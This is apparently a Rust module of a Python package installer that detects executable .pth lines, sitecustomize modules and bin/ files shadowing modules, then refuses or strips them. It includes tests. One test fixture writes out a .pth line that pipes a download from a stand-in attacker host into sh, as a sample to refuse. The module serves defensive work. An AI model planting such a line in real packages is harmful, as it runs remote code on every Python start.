//! Startup hooks: what `site.py` would run at every Python start (`.pth` lines, `sitecustomize`), and files in `bin/` a console script would import in place of a module.
//!
//! Startup hooks are refused before anything is written: a `.pth` file at
//! the top of `site-packages` whose lines start with `import` is executed by
//! `site.py` whenever *any* program starts this Python
//! (<https://docs.python.org/3/library/site.html>), which is how the
//! compromised litellm 1.82.8 ran its credential stealer
//! (<https://github.com/BerriAI/litellm/issues/24512>). Lines are split as
//! every supported Python splits them ([`pth_pieces`]). For the same reason
//! `sitecustomize`/`usercustomize` modules, which `site.py` imports at every
//! start, and files in `bin/` that a console script would import in place
//! of a module ([`startup_hook`]) are judged by the same policy: left out
//! and reported (`Strip`), or refused.

// What to do with `.pth` files that land at the top of `site-packages` is
// the policy's `python.pth`: `Strip` keeps setuptools'
// `distutils-precedence.pth`, coverage's `a1_coverage.pth` and namespace
// packages' `-nspkg.pth` working, without the lines `site.py` would run.
use crate::policy::PthPolicy;
use std::path::{Path, PathBuf};

use crate::error::{Error, Result};

pub(super) const HINT_PTH: &str = "`site.py` executes every `.pth` line that starts with `import`, \
    in every program that uses this Python; the compromised litellm 1.82.8 stole credentials \
    this way (https://github.com/BerriAI/litellm/issues/24512)";
pub(super) const HINT_HOOK: &str = "Python imports such a file in place of the module it is named \
    after, in every program that uses this environment; policy `python.pth = \"strip\"` \
    installs the package without it, and says so";
pub(super) const HINT_PTH_ALL: &str = "the policy refuses every `.pth` file; \
    set `.pth` handling to refuse only executable ones to allow path-only files";

/// Where a file lands, as far as start-up is concerned.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Place {
    /// The top of `site-packages` (purelib or platlib).
    SitePackages,
    /// The wheel's data tree, which may reach anywhere in the venv.
    Data,
    /// The scripts directory (`bin/`).
    Scripts,
    /// Headers and other places nothing imports from.
    Elsewhere,
}

/// Is this `.pth` content what safex leaves of a `.pth` after stripping
/// its executable lines (so it may differ from `RECORD` by design)?
pub fn is_stripped_pth(bytes: &[u8]) -> bool {
    path_only_pth(bytes) == bytes
}

pub(super) enum Hook {
    /// A `.pth` file that `site.py` reads.
    Pth,
    /// A `sitecustomize` or `usercustomize` module.
    Customize,
    /// A module or package in the scripts directory, importable as this
    /// name by every script run from there.
    Shadow(String),
}

impl Hook {
    pub(super) fn why(&self) -> String {
        match self {
            Hook::Pth => "a `.pth` file".to_owned(),
            Hook::Customize => "a module that Python would run at every start".to_owned(),
            Hook::Shadow(module) => format!(
                "which lands in `bin/`, the first directory on `sys.path` of a script \
                 run from there, where it would be imported as `{module}` ahead of \
                 the standard library and every installed package"
            ),
        }
    }
}

/// Whether a file would run at every Python start, or in place of a module.
///
/// - `.pth` files: `site.py` reads those at the top of `site-packages`.
///   `.data/data/` files are judged by their whole path: they may reach
///   `site-packages` through a `lib64` symlink or a case-insensitive file
///   system.
/// - `sitecustomize`/`usercustomize` (module, extension or package):
///   `site.py` imports them from anywhere on `sys.path` once the `.pth`
///   files are read: at the top of `site-packages` here; deeper ones
///   (opentelemetry-instrumentation ships one for its own launcher to put
///   on `PYTHONPATH`) only count when a `.pth` path line of some wheel puts
///   their directory on `sys.path`, which [`path_line_hooks`] checks once
///   the whole tree is installed. In the data tree a path component with
///   that name anywhere counts.
/// - The scripts directory is `sys.path[0]` of every console script (safex
///   runs `python bin/<script>`; neither `-I` nor `-P` is used, and 3.8 has
///   neither), so `bin/json.py`, `bin/json.cpython-312-x86_64-linux-gnu.so`,
///   `bin/json.pyc` or a directory `bin/json/` is imported as `json` ahead
///   of the standard library. `site.py` does not search `bin/` at start-up
///   (`sys.path[0]` is set after it ran), so `bin/sitecustomize.py` is such a
///   shadow, not a start-up hook. Plain scripts (`tool`, `tool-cli.py`, whose
///   names no `import` statement can spell) are fine.
pub(super) fn startup_hook(place: Place, rel: &str) -> Option<Hook> {
    let lower = rel.to_lowercase();
    match place {
        Place::SitePackages => {
            if !lower.contains('/') && lower.ends_with(".pth") {
                Some(Hook::Pth)
            } else if lower.split('/').next().is_some_and(is_customize) {
                Some(Hook::Customize)
            } else {
                None
            }
        }
        Place::Data => {
            if lower.ends_with(".pth") {
                Some(Hook::Pth)
            } else if lower.split('/').any(is_customize) {
                Some(Hook::Customize)
            } else {
                None
            }
        }
        Place::Scripts => shadowed_module(rel).map(Hook::Shadow),
        Place::Elsewhere => None,
    }
}

/// Is `path` (a `RECORD` row of `dist_info`) a file the installer may have
/// left out by design: a `sitecustomize`/`usercustomize` anywhere, or a file
/// in `.data/scripts/` that shadows a module? For `cache verify --deep`,
/// where such a file's absence is not damage.
pub fn left_out_by_design(path: &str, dist_info: &str) -> bool {
    let data = format!("{}.data/scripts/", dist_info.trim_end_matches(".dist-info"));
    if let Some(rel) = path.strip_prefix(&data) {
        return shadowed_module(rel).is_some();
    }
    path.to_lowercase().split('/').any(is_customize)
}

/// The module name a file in the scripts directory can be imported as: a
/// file `<name>.py` (also `.pyc`, `.pyw`, `.pyd`, `.so` and the tagged
/// extension forms `<name>.<tag>.so`), or anything in a directory `<name>/`
/// (a package, or a namespace package portion), where `<name>` is a Python
/// identifier (any non-ASCII name counts: identifiers may be Unicode).
fn shadowed_module(rel: &str) -> Option<String> {
    let identifier = |s: &str| {
        !s.is_empty()
            && !s.starts_with(|c: char| c.is_ascii_digit())
            && s.chars().all(|c| c == '_' || c.is_alphanumeric())
    };
    if let Some((dir, _)) = rel.split_once('/') {
        return identifier(dir).then(|| dir.to_owned());
    }
    let (stem, suffix) = rel.split_once('.')?;
    let suffix = suffix.to_lowercase();
    let importable = ["py", "pyc", "pyw", "pyd", "so"].contains(&suffix.as_str())
        || suffix.ends_with(".so")
        || suffix.ends_with(".pyd");
    (importable && identifier(stem)).then(|| stem.to_owned())
}

/// The lines of a `.pth` file as every supported Python splits it, at once.
///
/// What `site.addpackage` does, per version (`Lib/site.py`):
/// - 3.8–3.12 iterate a text file opened in the locale encoding with
///   universal newlines: lines end at `\n`, `\r` or `\r\n`. A byte-order mark
///   stays in the first line (so it never executes there), and a file that
///   does not decode aborts `site` with an error, but only after the lines of
///   the chunks before the bad byte ran.
/// - 3.13 reads the whole file, decodes it as `utf-8-sig` (the BOM is
///   dropped), falling back to the locale encoding, and uses
///   `str.splitlines()`, which also breaks at `\x0b`, `\x0c`, `\x1c`–`\x1e`,
///   U+0085, U+2028 and U+2029.
///
/// So the pieces are: a leading BOM removed; valid UTF-8 split at every one
/// of those characters; anything else split at those bytes and at the byte
/// `\x85` (NEL in Latin-1, a locale 3.13 may fall back to). Every line any of
/// those interpreters sees starts at the start of one of these pieces, so a
/// file none of whose pieces starts with `import` runs nothing anywhere
/// (the real interpreters are checked in `pth_split_agrees_with_real_pythons`).
fn pth_pieces(bytes: &[u8]) -> Vec<std::borrow::Cow<'_, str>> {
    const BREAKS: [char; 10] = [
        '\n', '\r', '\x0b', '\x0c', '\x1c', '\x1d', '\x1e', '\u{85}', '\u{2028}', '\u{2029}',
    ];
    let bytes = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(bytes);
    match std::str::from_utf8(bytes) {
        Ok(text) => text.split(BREAKS).map(std::borrow::Cow::Borrowed).collect(),
        Err(_) => bytes
            .split(|b| b"\n\r\x0b\x0c\x1c\x1d\x1e\x85".contains(b))
            .map(String::from_utf8_lossy)
            .collect(),
    }
}

/// Whether `site.py` would execute this piece, judged after stripping leading
/// whitespace, which is stricter than `site.py` itself (it checks the raw
/// line).
fn executes(piece: &str) -> bool {
    let line = piece.trim_start();
    line.starts_with("import ") || line.starts_with("import\t")
}

/// The first piece ([`pth_pieces`]) some supported Python would execute,
/// 1-based, shortened for messages.
pub(super) fn executable_pth_line(bytes: &[u8]) -> Option<(usize, String)> {
    pth_pieces(bytes)
        .iter()
        .enumerate()
        .find(|(_, line)| executes(line))
        .map(|(i, line)| {
            let text: String = line
                .trim()
                .chars()
                .take(60)
                .flat_map(|c| {
                    let escaped: Vec<char> = if c.is_control() {
                        c.escape_unicode().collect()
                    } else {
                        vec![c]
                    };
                    escaped
                })
                .collect();
            (i + 1, text)
        })
}

/// What a stripped `.pth` file keeps: its path lines, each on a line of its
/// own ending in `\n` (invalid UTF-8 replaced). A piece ([`pth_pieces`]) is
/// kept only if, trimmed, it does not start with `import`: the result has no
/// line any supported interpreter would execute, however it splits it.
/// Comments and blank lines go too.
pub(super) fn path_only_pth(bytes: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    for piece in pth_pieces(bytes) {
        let trimmed = piece.trim();
        if trimmed.is_empty() || trimmed.starts_with('#') || trimmed.starts_with("import") {
            continue;
        }
        out.extend_from_slice(piece.as_bytes());
        out.push(b'\n');
    }
    out
}

/// `.pth` path lines that put a directory holding a `sitecustomize` or
/// `usercustomize` on `sys.path`: `site.py` would import it at every start.
/// Checked over the installed `site-packages`, after every wheel of the
/// tree is in (the `.pth` file and the module may come from two wheels).
/// `Strip`: the line is removed from its file and reported (as
/// `file (line N: text)`); otherwise the tree is refused.
pub fn path_line_hooks(site: &Path, pth: PthPolicy) -> Result<Vec<String>> {
    let mut reported = Vec::new();
    let mut names: Vec<PathBuf> = std::fs::read_dir(site)?
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|x| x.eq_ignore_ascii_case("pth")) && p.is_file())
        .collect();
    names.sort();
    for file in names {
        let bytes = fs_err::read(&file)?;
        let mut kept = Vec::new();
        let mut changed = false;
        for (n, piece) in pth_pieces(&bytes).iter().enumerate() {
            let line = piece.trim();
            let skip = line.is_empty() || line.starts_with('#') || executes(piece);
            let dir = site.join(line.trim_end());
            if !skip && holds_customize(&dir) {
                let what = format!(
                    "`{}` (line {}: `{}`, which puts a `sitecustomize` on `sys.path`)",
                    file.file_name().unwrap_or_default().to_string_lossy(),
                    n + 1,
                    line.chars()
                        .filter(|c| !c.is_control())
                        .take(60)
                        .collect::<String>()
                );
                if pth != PthPolicy::Strip {
                    return Err(Error::unsafe_pkg(format!(
                        "the environment's {what} would run code at every Python start"
                    ))
                    .with_hint(HINT_PTH));
                }
                reported.push(what);
                changed = true;
                continue;
            }
            if !skip {
                kept.extend_from_slice(piece.as_bytes());
                kept.push(b'\n');
            }
        }
        if changed {
            fs_err::write(&file, kept)?;
        }
    }
    Ok(reported)
}

/// Whether `dir` has a `sitecustomize`/`usercustomize` module or package.
fn holds_customize(dir: &Path) -> bool {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return false;
    };
    entries
        .filter_map(|e| e.ok())
        .any(|e| is_customize(&e.file_name().to_string_lossy().to_lowercase()))
}

/// Whether a lowercased path component is the `sitecustomize` or
/// `usercustomize` module, an extension of it (`sitecustomize.abi3.so`), or
/// its package directory.
fn is_customize(component: &str) -> bool {
    ["sitecustomize", "usercustomize"].iter().any(|m| {
        component == *m
            || component
                .strip_prefix(m)
                .is_some_and(|r| r.starts_with('.'))
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::error::Kind;
    use crate::pypi::wheel_fixture::*;

    const EVIL_PTH: &str = "import os; os.system('curl https://evil.example | sh')\n";

    #[test]
    fn refuses_executable_pth_before_writing_anything() {
        let tmp = tempfile::tempdir().unwrap();
        let files = files(vec![f("demo_init.pth", EVIL_PTH)]);
        let whl = build(tmp.path(), &files, None);
        let layout = layout(tmp.path());
        let err = install(&whl, &layout, PthPolicy::RefuseExecutable).unwrap_err();
        assert_eq!(err.kind, Kind::Unsafe, "{err}");
        assert!(err.message.contains("`demo_init.pth`"), "{err}");
        assert!(
            err.message.contains("run code at every Python start"),
            "{err}"
        );
        assert!(err.message.contains("litellm 1.82.8"), "{err}");
        assert!(err.message.contains("line 1: `import os;"), "{err}");
        assert_eq!(fs_err::read_dir(&layout.purelib).unwrap().count(), 0);
    }

    #[test]
    fn refuses_executable_pth_in_other_forms() {
        let data = format!("{DIST}.data");
        for (name, content) in [
            ("x.pth", "# a comment\n/some/path\n   import sys\n"),
            ("x.pth", "\u{feff}import\tos\n"),
            ("x.PTH", "/p\rimport os\n"),
            (&*format!("{data}/purelib/x.pth"), EVIL_PTH),
            (
                &*format!("{data}/data/lib/python3.12/site-packages/x.pth"),
                EVIL_PTH,
            ),
            (
                &*format!("{data}/data/lib64/python3.12/site-packages/x.pth"),
                EVIL_PTH,
            ),
        ] {
            refused(
                &files(vec![f(name, content)]),
                None,
                Kind::Unsafe,
                "run code at every Python start",
            );
        }
    }

    #[test]
    fn refuses_sitecustomize() {
        let data = format!("{DIST}.data");
        for name in [
            "sitecustomize.py",
            "usercustomize.cpython-312-x86_64-linux-gnu.so",
            "sitecustomize/__init__.py",
            &format!("{data}/data/lib/python3.12/site-packages/sitecustomize.py"),
        ] {
            refused(
                &files(vec![f(name, "import os\n")]),
                None,
                Kind::Unsafe,
                "a module that Python would run at every start",
            );
        }
    }

    #[test]
    fn path_only_pth_is_installed() {
        let tmp = tempfile::tempdir().unwrap();
        let content = "# add the vendored tree\n/opt/demo/lib\n\nvendored\nimportant_dir\n";
        let files = files(vec![
            f("demo.pth", content),
            f("demo_pkg/nested.pth", EVIL_PTH),
        ]);
        let whl = build(tmp.path(), &files, None);
        let layout = layout(tmp.path());
        install(&whl, &layout, PthPolicy::RefuseExecutable).unwrap();
        assert_eq!(
            fs_err::read_to_string(layout.purelib.join("demo.pth")).unwrap(),
            content
        );
    }

    #[test]
    fn refuse_all_refuses_path_only_pth() {
        let tmp = tempfile::tempdir().unwrap();
        let files = files(vec![f("demo.pth", "/opt/demo/lib\n")]);
        let whl = build(tmp.path(), &files, None);
        let err = install(&whl, &layout(tmp.path()), PthPolicy::RefuseAll).unwrap_err();
        assert_eq!(err.kind, Kind::Unsafe, "{err}");
        assert!(err.message.contains("`.pth` file `demo.pth`"), "{err}");
    }

    /// `.pth` contents and the versions whose `site.addpackage` executes
    /// a line of it, as measured with the real 3.8, 3.9, 3.10, 3.11, 3.12
    /// and 3.13 interpreters (`pth_split_agrees_with_real_pythons` measures
    /// again where they are installed). `P` is the executing line.
    const P: &str = "import builtins;builtins.HIT.append(1)";
    fn pth_cases() -> Vec<(&'static str, Vec<u8>, &'static [&'static str])> {
        const ALL: &[&str] = &["3.8", "3.9", "3.10", "3.11", "3.12", "3.13"];
        const NEW: &[&str] = &["3.13"];
        const NONE: &[&str] = &[];
        let p = |pre: &[u8]| [pre, P.as_bytes()].concat();
        vec![
            ("plain", p(b""), ALL),
            ("lf", p(b"x\n"), ALL),
            ("cr", p(b"x\r"), ALL),
            ("crlf", p(b"x\r\n"), ALL),
            (
                "tab",
                b"import\tbuiltins;builtins.HIT.append(1)".to_vec(),
                ALL,
            ),
            ("vt", p(b"x\x0b"), NEW),
            ("ff", p(b"x\x0c"), NEW),
            ("fs", p(b"x\x1c"), NEW),
            ("gs", p(b"x\x1d"), NEW),
            ("rs", p(b"x\x1e"), NEW),
            ("nel", p("x\u{85}".as_bytes()), NEW),
            ("ls", p("x\u{2028}".as_bytes()), NEW),
            ("ps", p("x\u{2029}".as_bytes()), NEW),
            ("bom", p(b"\xef\xbb\xbf"), NEW),
            // Not valid UTF-8: no interpreter here runs it (3.8-3.12 fail to
            // decode in a UTF-8 locale, 3.13 falls back to it and fails),
            // but in a Latin-1 locale 3.13 would split at the `\x85`.
            ("raw-nel", p(b"x\x85"), NONE),
            ("bad-utf8-first", p(b"\xff\n"), NONE),
            ("space", p(b" "), NONE),
            ("comment", p(b"#"), NONE),
            ("nul", p(b"x\x00"), NONE),
            ("word", b"importlib\n/some/dir\n".to_vec(), NONE),
        ]
    }

    #[test]
    fn pth_judgement_covers_every_supported_python() {
        for (name, bytes, runs_on) in pth_cases() {
            let judged = executable_pth_line(&bytes);
            if !runs_on.is_empty() {
                assert!(
                    judged.is_some(),
                    "{name}: runs on {runs_on:?}, safex judged it harmless"
                );
            }
            // Never a judgement that a case mixing break characters escapes.
            let kept = path_only_pth(&bytes);
            assert!(
                executable_pth_line(&kept).is_none(),
                "{name}: stripped file still executes: {kept:?}"
            );
            for piece in kept.split(|b| *b == b'\n') {
                assert!(!piece.starts_with(b"import"), "{name}: kept {piece:?}");
                assert!(
                    !piece
                        .iter()
                        .any(|b| b"\r\x0b\x0c\x1c\x1d\x1e\x85".contains(b)),
                    "{name}: kept a break character in {piece:?}"
                );
            }
        }
        // The split is not looser than needed: a line break every version
        // agrees on is still line 2, and a harmless file stays untouched.
        assert_eq!(executable_pth_line(b"/a\nimport x").unwrap().0, 2);
        assert_eq!(
            executable_pth_line(b"x\x0cimport os").unwrap().1,
            "import os"
        );
        assert_eq!(path_only_pth(b"/a\n/b\n"), b"/a\n/b\n");
    }

    /// The interpreters of this machine, `(version, path)`: pyenv's layout
    /// (`~/.pyenv/versions/3.X.Y/bin/python3`), 3.8 and later.
    fn real_pythons() -> Vec<(String, PathBuf)> {
        let Some(home) = std::env::var_os(crate::env_vars::HOME) else {
            return Vec::new();
        };
        let root = Path::new(&home).join(".pyenv/versions");
        let mut found = Vec::new();
        for entry in std::fs::read_dir(root).into_iter().flatten().flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            let mut parts = name.split('.');
            let (Some("3"), Some(minor)) = (parts.next(), parts.next()) else {
                continue;
            };
            let Ok(minor) = minor.parse::<u32>() else {
                continue;
            };
            let python = entry.path().join("bin/python3");
            if minor >= 8 && python.exists() && parts.next().is_some() {
                found.push((format!("3.{minor}"), python));
            }
        }
        found.sort();
        found.dedup_by(|a, b| a.0 == b.0);
        found
    }

    /// How many lines of the `.pth` file `file` that `python`'s own
    /// `site.addpackage` executes (`None`: it raised, e.g. on a decode
    /// error, after running that many).
    fn real_executions(python: &Path, file: &Path) -> (usize, bool) {
        const PROBE: &str = "import site, sys, builtins\n\
            builtins.HIT = []\n\
            try:\n    site.addpackage(sys.argv[1], sys.argv[2], set())\n    ok = 1\n\
            except BaseException:\n    ok = 0\n\
            print(len(builtins.HIT), ok)\n";
        let out = std::process::Command::new(python)
            .args(["-S", "-c", PROBE])
            .arg(file.parent().unwrap())
            .arg(file.file_name().unwrap())
            .env("LC_ALL", "C.UTF-8")
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&out.stdout);
        let mut it = text.split_whitespace();
        let n = it.next().and_then(|n| n.parse().ok());
        let ok = it.next() == Some("1");
        let n = n.unwrap_or_else(|| panic!("probe failed on {python:?}: {out:?}"));
        (n, ok)
    }

    #[test]
    fn pth_split_agrees_with_real_pythons() {
        let pythons = real_pythons();
        if pythons.is_empty() {
            eprintln!(
                "SKIPPED pth_split_agrees_with_real_pythons: no interpreter under \
                 ~/.pyenv/versions; the recorded table (pth_judgement_covers_every_supported_python) \
                 is all that was checked"
            );
            return;
        }
        eprintln!(
            "checking .pth splitting against {:?}",
            pythons.iter().map(|p| &p.0).collect::<Vec<_>>()
        );
        let tmp = tempfile::tempdir().unwrap();
        for (name, bytes, runs_on) in pth_cases() {
            let file = tmp.path().join(format!("{name}.pth"));
            std::fs::write(&file, &bytes).unwrap();
            let kept = tmp.path().join(format!("{name}-kept.pth"));
            std::fs::write(&kept, path_only_pth(&bytes)).unwrap();
            for (version, python) in &pythons {
                let (ran, _) = real_executions(python, &file);
                assert_eq!(
                    ran > 0,
                    runs_on.contains(&version.as_str()),
                    "{name} on {version}: the recorded table is wrong"
                );
                if ran > 0 {
                    assert!(executable_pth_line(&bytes).is_some(), "{name} on {version}");
                }
                let (ran, ok) = real_executions(python, &kept);
                assert_eq!((ran, ok), (0, true), "{name}: stripped file on {version}");
            }
        }
    }

    #[test]
    fn strip_mode_leaves_out_customize_modules_and_says_so() {
        let data = format!("{DIST}.data");
        for name in [
            "sitecustomize.py",
            "usercustomize/__init__.py",
            &format!("{data}/purelib/sitecustomize.py"),
            &format!("{data}/platlib/usercustomize.abi3.so"),
            &format!("{data}/data/lib/python3.12/site-packages/sitecustomize.py"),
        ] {
            let tmp = tempfile::tempdir().unwrap();
            let whl = build(tmp.path(), &files(vec![f(name, "import os\n")]), None);
            let layout = layout(tmp.path());
            let installed = install(&whl, &layout, PthPolicy::Strip).unwrap();
            assert_eq!(installed.stripped.len(), 1, "{name}: {installed:?}");
            assert!(
                installed.stripped[0].contains(&format!("`{name}`"))
                    && installed.stripped[0].contains("not installed"),
                "{name}: {installed:?}"
            );
            let left: Vec<_> = walkdir(tmp.path().join("venv"))
                .into_iter()
                .filter(|p| p.to_string_lossy().contains("customize"))
                .collect();
            assert!(left.is_empty(), "{name}: installed anyway: {left:?}");
            // The rest of the wheel is there.
            assert!(
                layout.purelib.join("demo_pkg/__init__.py").exists(),
                "{name}"
            );
        }
    }

    fn walkdir(dir: PathBuf) -> Vec<PathBuf> {
        let mut out = Vec::new();
        let mut todo = vec![dir];
        while let Some(d) = todo.pop() {
            for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
                if e.file_type().unwrap().is_dir() {
                    todo.push(e.path());
                }
                out.push(e.path());
            }
        }
        out
    }

    #[test]
    fn scripts_that_shadow_modules_are_left_out() {
        let data = format!("{DIST}.data");
        let shadows = [
            ("json.py", "json"),
            ("requests.pyc", "requests"),
            ("sitecustomize.py", "sitecustomize"),
            ("_ssl.cpython-312-x86_64-linux-gnu.so", "_ssl"),
            ("encodings/__init__.py", "encodings"),
            ("typing_x/mod.txt", "typing_x"),
        ];
        // Left out and named in every mode: never launched by safex, so
        // not a reason to refuse a tree (jmespath ships `jp.py` there).
        for (file, module) in shadows {
            let name = format!("{data}/scripts/{file}");
            for mode in [
                PthPolicy::Strip,
                PthPolicy::RefuseExecutable,
                PthPolicy::RefuseAll,
            ] {
                let tmp = tempfile::tempdir().unwrap();
                let whl = build(tmp.path(), &files(vec![f(&name, "print('hi')\n")]), None);
                let layout = layout(tmp.path());
                let installed = install(&whl, &layout, mode).unwrap();
                assert_eq!(installed.stripped.len(), 1, "{file}: {installed:?}");
                assert!(
                    installed.stripped[0].contains(&format!("`{name}`"))
                        && installed.stripped[0].contains(&format!("imported as `{module}`")),
                    "{installed:?}"
                );
                assert!(
                    walkdir(layout.scripts.clone()).is_empty(),
                    "{file}: {:?}",
                    walkdir(layout.scripts.clone())
                );
            }
        }
        // Names no `import` can spell are plain scripts, in every mode.
        for file in [
            "tool",
            "rst2html-x.py",
            "tool.sh",
            "2to3.py",
            "x.pyi",
            "tool.py.txt",
        ] {
            let tmp = tempfile::tempdir().unwrap();
            let name = format!("{data}/scripts/{file}");
            let whl = build(tmp.path(), &files(vec![f(&name, "#!python\n")]), None);
            let layout = layout(tmp.path());
            let installed = install(&whl, &layout, PthPolicy::RefuseAll).unwrap();
            assert!(installed.stripped.is_empty(), "{file}");
            assert!(layout.scripts.join(file).exists(), "{file}");
        }
    }

    #[test]
    fn deep_customize_counts_only_when_a_path_line_reaches_it() {
        // opentelemetry-instrumentation ships one for its own launcher.
        let tmp = tempfile::tempdir().unwrap();
        let deep = "demo_pkg/auto/sitecustomize.py";
        let whl = build(tmp.path(), &files(vec![f(deep, "import os\n")]), None);
        let layout = layout(tmp.path());
        let installed = install(&whl, &layout, PthPolicy::RefuseAll).unwrap();
        assert!(installed.stripped.is_empty());
        assert!(layout.purelib.join(deep).is_file());
        let site = &layout.purelib;
        assert!(
            path_line_hooks(site, PthPolicy::RefuseAll)
                .unwrap()
                .is_empty()
        );
        // A path line (of any wheel) that puts that directory on sys.path.
        std::fs::write(site.join("other.pth"), "# c\ndemo_pkg\ndemo_pkg/auto\n").unwrap();
        let err = path_line_hooks(site, PthPolicy::RefuseExecutable).unwrap_err();
        assert_eq!(err.kind, Kind::Unsafe, "{err}");
        assert!(
            err.message.contains("`other.pth` (line 3: `demo_pkg/auto`"),
            "{err}"
        );
        let stripped = path_line_hooks(site, PthPolicy::Strip).unwrap();
        assert_eq!(stripped.len(), 1, "{stripped:?}");
        assert_eq!(
            std::fs::read_to_string(site.join("other.pth")).unwrap(),
            "demo_pkg\n"
        );
        assert!(
            path_line_hooks(site, PthPolicy::RefuseExecutable)
                .unwrap()
                .is_empty()
        );
    }
}
